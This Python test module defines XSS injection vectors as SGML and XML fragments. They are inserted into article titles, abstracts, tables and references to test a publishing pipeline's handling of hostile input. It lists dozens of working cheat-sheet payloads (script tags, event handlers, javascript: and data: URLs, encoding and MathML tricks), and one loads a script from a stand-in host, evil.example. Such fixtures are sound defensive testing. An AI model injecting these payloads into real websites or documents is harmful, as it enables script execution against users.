"""Injection vectors (XSS cheat-sheet families) as SGML and XML fragments, for the hostile-build tests.

Each vector is one fragment placed in an article's title, abstract, body, table, caption, footnote and
reference. ``text`` vectors are the same characters in both formats (escaped in XML, literal in SGML,
where markup that looks like HTML in a paragraph is taken as HTML); ``markup`` vectors are real elements
(MathML, links, graphics, styled content) carrying the attack in their names and attributes.
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape


@dataclass(frozen=True)
class Vector:
    name: str
    family: str
    sgml: str
    xml: str
    #: The parts the vector goes in (markup elements only where the DTDs allow them).
    places: tuple[str, ...] = (
        "title",
        "abstract",
        "body",
        "table",
        "caption",
        "footnote",
        "reference",
    )


_IN_TEXT = ("abstract", "body", "table", "footnote")


def _text(name: str, family: str, payload: str) -> Vector:
    return Vector(name, family, payload, escape(payload, quote=False))


def _math(name: str, inner: str) -> Vector:
    """MathML: as ``[mmlmath]`` CDATA in SGML, as ``mml:math`` in an inline formula in XML."""
    mml = inner.replace("<", "<mml:").replace("<mml:/", "</mml:")
    sgml = f'[equation id=@ID@][mmlmath]<math xmlns="http://www.w3.org/1998/Math/MathML">{inner}</math>[/mmlmath][/equation]'
    xml = f"<inline-formula><mml:math>{mml}</mml:math></inline-formula>"
    return Vector(name, "mathml", sgml, xml, _IN_TEXT)


_TEXT = {
    "tags": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="data:text/html,<script>alert(1)</script>">',
        "<template><script>alert(1)</script></template>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="javascript:alert(1)//">',
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<link rel="stylesheet" href="javascript:alert(1)">',
        "<style>@import 'javascript:alert(1)';</style>",
    ],
    "attributes": [
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<xss onpointerover=alert(1)>hover</xss>",
        '<p title="x" onmouseover="alert(1)">x</p>',
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
    ],
    "urls": [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="  javascript:alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ],
    "encodings": [
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<![CDATA[<script>alert(1)</script>]]>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
    ],
    "namespaces": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
}

TEXT_VECTORS = [
    _text(f"{family}-{n}", family, payload)
    for family, payloads in _TEXT.items()
    for n, payload in enumerate(payloads, 1)
]

MARKUP_VECTORS = [
    _math("mml-script", "<mtext>a</mtext><script>alert(1)</script>"),
    _math("mml-onmouseover", '<mi onmouseover="alert(1)">x</mi>'),
    _math(
        "mml-maction-href",
        '<maction actiontype="toggle" href="javascript:alert(1)"><mi>a</mi><mi>b</mi></maction>',
    ),
    _math(
        "mml-annotation-html",
        '<semantics><mi>x</mi><annotation-xml encoding="text/html"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></annotation-xml></semantics>',
    ),
    _math("mml-style-url", '<mi style="background:url(javascript:alert(1))">x</mi>'),
    _math("mml-svg", '<mtext><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></mtext>'),
    _math("mml-href", '<mi href="javascript:alert(1)">x</mi>'),
    Vector(
        "link-javascript",
        "links",
        '[uri href="javascript:alert(1)"]x[/uri]',
        '<ext-link ext-link-type="uri" xlink:href="javascript:alert(1)">x</ext-link>',
        _IN_TEXT,
    ),
    Vector(
        "link-data-html",
        "links",
        '[uri href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"]x[/uri]',
        '<ext-link ext-link-type="uri" xlink:href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">x</ext-link>',
        _IN_TEXT,
    ),
    Vector(
        "link-entity-tab",
        "links",
        '[uri href="jav&#9;ascript:alert(1)"]x[/uri]',
        '<ext-link ext-link-type="uri" xlink:href="jav&#x9;ascript:alert(1)">x</ext-link>',
        _IN_TEXT,
    ),
    Vector(
        "uri-vbscript",
        "links",
        "[uri]vbscript:msgbox(1)[/uri]",
        "<uri>vbscript:msgbox(1)</uri>",
        _IN_TEXT,
    ),
    Vector(
        "graphic-javascript",
        "links",
        '[graphic href="javascript:alert(1)"][/graphic]',
        '<inline-graphic xlink:href="javascript:alert(1)"/>',
        _IN_TEXT,
    ),
    Vector(
        "styled-content",
        "attributes",
        "[italic]x[/italic]",
        '<styled-content style="background:url(javascript:alert(1))" content-type="x&quot; onmouseover=&quot;alert(1)">x</styled-content>',
        _IN_TEXT,
    ),
    Vector(
        "email-breakout",
        "attributes",
        '[email]x@example.org"><script>alert(1)</script>[/email]',
        '<email>x@example.org"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</email>',
        _IN_TEXT,
    ),
]

VECTORS = TEXT_VECTORS + MARKUP_VECTORS
